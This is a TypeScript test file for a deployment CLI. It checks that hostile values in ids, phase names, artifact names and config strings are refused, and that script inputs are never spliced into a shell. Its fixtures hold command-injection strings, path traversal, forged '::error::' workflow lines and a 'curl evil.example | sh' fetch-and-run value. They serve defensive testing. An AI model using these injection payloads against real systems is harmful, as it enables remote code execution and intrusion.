/**
 * Hostile input, case by case: shell metacharacters, path separators, `..`, newlines and `::`
 * workflow-command sequences in deployment ids, phase names, artifact names and config strings are
 * refused (exit 2, nothing written) or made harmless; nothing runs through a shell string.
 */
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { runCli, scratchDir } from '../support/cli.js';

let dir: string;
let cleanup: () => void;
beforeEach(() => ({ dir, cleanup } = scratchDir()));
afterEach(() => cleanup());

const HOSTILE = [
  'demo; touch pwned',
  '$(touch pwned)',
  '`touch pwned`',
  '../../etc',
  'a/b',
  'x..y',
  'line\nbreak',
  '::error::forged',
  'a|b&c',
];

function pipeline(deployment: string, phase = 'first', extra = ''): string {
  const path = join(dir, 'p.yml');
  writeFileSync(
    path,
    `deployment: ${JSON.stringify(deployment)}\nphases:\n  - name: ${JSON.stringify(phase)}\n    run: echo ok${extra}\n`,
  );
  return path;
}

async function refused(args: string[], message: RegExp): Promise<void> {
  const result = await runCli(args, { cwd: dir });
  expect(result.code).toBe(2);
  expect(result.stderr).toMatch(message);
  expect(existsSync(join(dir, 'pwned'))).toBe(false);
  expect(existsSync(join(dir, 'state/deployment-state.yaml'))).toBe(false);
  // A forged line can only appear inside the quoted value of the error message, never at a line start.
  expect(result.stderr).not.toMatch(/^::/m);
  expect(result.stdout).not.toMatch(/^::/m);
}

test.each(HOSTILE)('deployment id %j is refused', async (id) => {
  await refused(['run', '--pipeline', pipeline(id)], /deployment: expected a deployment id/);
});

test.each(HOSTILE)('phase name %j is refused', async (name) => {
  await refused(['run', '--pipeline', pipeline('demo', name)], /phases\[0\]\.name: expected snake_case/);
});

test.each(HOSTILE)('artifact name %j is refused', async (name) => {
  expect((await runCli(['run', '--pipeline', pipeline('demo')], { cwd: dir })).code).toBe(0);
  writeFileSync(join(dir, 'file.txt'), 'x');
  const before = readFileSync(join(dir, 'state/deployment-state.yaml'), 'utf8');
  const result = await runCli(['artifact', 'record', name, 'file.txt'], { cwd: dir });
  expect(result.code).toBe(2);
  expect(result.stderr).toContain('is not valid: use snake_case');
  expect(readFileSync(join(dir, 'state/deployment-state.yaml'), 'utf8')).toBe(before);
  expect(result.stderr).not.toMatch(/^::/m);
});

test('config strings with metacharacters are refused with the key path', async () => {
  writeFileSync(
    join(dir, 'k0rdent.yaml'),
    'azure:\n  location: "westus2; curl evil.example | sh"\nssh:\n  username: "k0rdent\\n::error::forged"\n',
  );
  const result = await runCli(['config', 'validate', '--config', 'k0rdent.yaml'], { cwd: dir });
  expect(result.code).toBe(2);
  expect(result.stderr).toMatch(/azure\.location/);
  expect(result.stderr).toMatch(/ssh\.username/);
  expect(result.stderr).not.toMatch(/^::/m);
});

test('phase scripts get their inputs as environment values, never spliced into a shell string', async () => {
  const path = join(dir, 'p.yml');
  writeFileSync(
    path,
    'deployment: demo\nphases:\n  - name: first\n    inputs: { note: "$(touch pwned); `touch pwned`" }\n    run: printf "%s" "$K0RDENT_INPUT_NOTE" > note.txt\n',
  );
  expect((await runCli(['run', '--pipeline', path], { cwd: dir })).code).toBe(0);
  expect(readFileSync(join(dir, 'note.txt'), 'utf8')).toBe('$(touch pwned); `touch pwned`');
  expect(existsSync(join(dir, 'pwned'))).toBe(false);
});
